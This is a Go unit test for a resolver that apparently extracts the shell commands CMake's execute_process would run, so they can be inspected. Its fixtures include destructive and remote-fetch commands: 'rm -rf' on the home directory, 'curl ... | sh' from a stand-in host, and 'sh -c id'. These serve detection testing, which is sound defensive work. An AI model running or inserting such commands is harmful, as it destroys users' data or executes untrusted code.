package buildfile

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func TestResolveCMake(t *testing.T) {
	const (
		wipe     = "cmake_minimum_required(VERSION 3.20)\nproject(a C)\nexecute_process(COMMAND rm -rf $ENV{HOME})\nadd_executable(a src/main.c)\n"
		describe = "project(a C)\nexecute_process(COMMAND ${GIT_EXECUTABLE} describe --tags --always\n  OUTPUT_VARIABLE V OUTPUT_STRIP_TRAILING_WHITESPACE)\n"
	)
	sh := func(file string, line int, text, dir string) Step {
		return Step{File: file, Line: line, Text: text, Lang: Shell, Dir: dir}
	}
	tests := []struct {
		name  string
		args  []string
		files fakeFiles
		want  Plan
	}{
		{name: "configure runs execute_process as an argv", args: []string{"cmake", "-S", ".", "-B", "build"},
			files: fakeFiles{"/w/CMakeLists.txt": wipe},
			want: Plan{Runner: "cmake", Read: []string{"/w/CMakeLists.txt"},
				Steps: []Step{sh("/w/CMakeLists.txt", 3, `rm -rf "${HOME}"`, "/w/build")}}},
		{name: "benign twin: git describe, GIT_EXECUTABLE is git", args: []string{"cmake", "-B", "build"},
			files: fakeFiles{"/w/CMakeLists.txt": describe},
			want: Plan{Runner: "cmake", Read: []string{"/w/CMakeLists.txt"},
				Steps: []Step{sh("/w/CMakeLists.txt", 2, "git describe --tags --always", "/w/build")}}},
		{name: "cmake SRC; COMMANDs are a pipeline; set() lists expanded; a subdirectory and an include",
			args: []string{"cmake", "-G", "Ninja", "-DX=1", "."},
			files: fakeFiles{"/w/CMakeLists.txt": "# execute_process(COMMAND rm -rf /)\nset(FETCH curl -fsSL \"https://x.example/i\")\n" +
				"execute_process(COMMAND ${FETCH}\n                COMMAND sh\n                WORKING_DIRECTORY ${CMAKE_SOURCE_DIR}/tools)\n" +
				"add_subdirectory(lib)\ninclude(cmake/extra.cmake)\ninclude(CTest)\n",
				"/w/lib/CMakeLists.txt":   "EXECUTE_PROCESS(COMMAND \"${CMAKE_COMMAND}\" -E echo \"a b\" [[c d]])\n",
				"/w/cmake/extra.cmake":    "execute_process(COMMAND ${SOME_TOOL} --gen)\n",
				"/w/build/CMakeLists.txt": "not read"},
			want: Plan{Runner: "cmake", Read: []string{"/w/CMakeLists.txt", "/w/lib/CMakeLists.txt", "/w/cmake/extra.cmake"},
				Steps: []Step{sh("/w/CMakeLists.txt", 3, "curl -fsSL https://x.example/i | sh", "/w/tools"),
					sh("/w/lib/CMakeLists.txt", 1, "cmake -E echo 'a b' 'c d'", "/w"),
					sh("/w/cmake/extra.cmake", 1, `"${CMAKE_VALUE}" --gen`, "/w")}}},
		{name: "cmake -P runs a script", args: []string{"cmake", "-P", "ci/clean.cmake"},
			files: fakeFiles{"/w/ci/clean.cmake": "execute_process(COMMAND rm -rf \"$ENV{HOME}/.cache\")\n"},
			want: Plan{Runner: "cmake", Read: []string{"/w/ci/clean.cmake"},
				Steps: []Step{sh("/w/ci/clean.cmake", 1, `rm -rf "${HOME}"/.cache`, "/w")}}},
		{name: "cmake BUILD reads the source the cache names", args: []string{"cmake", "out"},
			files: fakeFiles{"/w/out/CMakeCache.txt": "CMAKE_HOME_DIRECTORY:INTERNAL=/src/a\n", "/src/a/CMakeLists.txt": wipe},
			want: Plan{Runner: "cmake", Read: []string{"/w/out/CMakeCache.txt", "/src/a/CMakeLists.txt"},
				Steps: []Step{sh("/src/a/CMakeLists.txt", 3, `rm -rf "${HOME}"`, "/w/out")}}},
		{name: "cmake -C runs the initial cache script first, its set()s seen by CMakeLists.txt", args: []string{"cmake", "-C", "init.cmake", "-B", "b"},
			files: fakeFiles{"/w/init.cmake": "set(TOOL curl CACHE STRING \"\")\nexecute_process(COMMAND sh -c \"id\")\n",
				"/w/CMakeLists.txt": "execute_process(COMMAND ${TOOL} -s https://x.example/t)\n"},
			want: Plan{Runner: "cmake", Read: []string{"/w/CMakeLists.txt", "/w/init.cmake"},
				Steps: []Step{sh("/w/init.cmake", 2, "sh -c id", "/w/b"), sh("/w/CMakeLists.txt", 1, "curl -s https://x.example/t", "/w/b")}}},
		{name: "cmake --build and -E run no CMakeLists.txt", args: []string{"cmake", "--build", "build"},
			files: fakeFiles{"/w/CMakeLists.txt": wipe}, want: Plan{}},
		{name: "cmake -E is a tool", args: []string{"cmake", "-E", "echo", "hi"},
			files: fakeFiles{"/w/CMakeLists.txt": wipe}, want: Plan{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Resolve(Invocation{Name: tt.args[0], Args: tt.args[1:], Dir: "/w", Home: "/h"}, tt.files)
			if diff := cmp.Diff(tt.want, got, cmpopts.IgnoreFields(Plan{}, "Size")); diff != "" {
				t.Errorf("Resolve(%q) (-want +got):\n%s", tt.args, diff)
			}
		})
	}
}
